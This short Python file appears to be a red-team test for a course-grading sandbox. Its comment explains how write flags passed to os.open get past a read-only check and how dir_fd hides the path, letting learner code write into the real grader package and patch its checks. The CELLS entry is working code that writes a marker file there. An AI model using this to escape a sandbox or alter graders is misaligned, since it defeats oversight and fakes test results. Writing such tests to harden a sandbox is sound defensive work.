# ruff: noqa: E402, E501
# Fallback: os.open write flags pass as a read (mode None) AND dir_fd hides the real path,
# so learner code (root here: Python lives under /root, not reachable by nobody) writes into
# the REAL rnn_course package: patching grade/lessons/*/checks.py would pass every later student.
CELLS = {
    "softmax_output": """
import os, sys
_fin = [m for n, m in sys.modules.items() if n.startswith("__editable__") and hasattr(m, "MAPPING")]
_pkg = _fin[0].MAPPING["rnn_course"]
_d = os.open(os.path.dirname(_pkg), os.O_RDONLY)
_fd = os.open("rnn_course/REDTEAM_MARKER", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=_d)
os.write(_fd, b"learner code wrote into the grader's package")
os.close(_fd)
"""
}
